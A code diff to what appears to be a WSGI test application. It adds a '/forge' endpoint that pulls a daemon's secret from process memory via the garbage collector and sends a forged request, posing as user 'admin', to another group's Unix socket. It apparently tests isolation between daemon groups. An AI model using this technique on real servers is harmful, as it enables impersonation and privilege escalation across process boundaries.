@@ -90,5 +90,28 @@ def application(environ, start_response):
         start_response("200 OK", [])
         return [("pid=%d uid=%d euid=%d gid=%d groups=%s" % (
             os.getpid(), os.getuid(), os.geteuid(), os.getgid(), os.getgroups())).encode()]
+    if path == "/forge":
+        # use this process's own secret on another group's socket, as another user
+        import gc
+        import socket
+        import struct
+        secret = [o.secret for o in gc.get_objects()
+                  if type(o).__name__ == "Daemon" and hasattr(o, "secret")][0]
+        q = b"".join(k + b"\0" + v + b"\0" for k, v in [
+            (b":script", environ["SCRIPT_FILENAME"].encode()), (b":callable", b"application"),
+            (b":group", b""), (b"REMOTE_USER", b"admin"), (b"REQUEST_METHOD", b"GET"),
+            (b"PATH_INFO", b"/whoami"), (b"SCRIPT_NAME", b""), (b"SERVER_NAME", b"x"),
+            (b"SERVER_PORT", b"80"), (b"SERVER_PROTOCOL", b"HTTP/1.1"),
+            (b"wsgi.url_scheme", b"http")])
+        s = socket.socket(socket.AF_UNIX)
+        s.settimeout(5)
+        s.connect(environ["QUERY_STRING"])
+        s.sendall(b"WXD\x01" + secret + b"Q" + struct.pack(">I", len(q)) + q)
+        try:
+            got = s.recv(1000)
+        except OSError:
+            got = b""
+        start_response("200 OK", [])
+        return [b"INJECTED " + got if got else b"refused"]
     start_response("404 Not Found", [])
     return [b"?"]
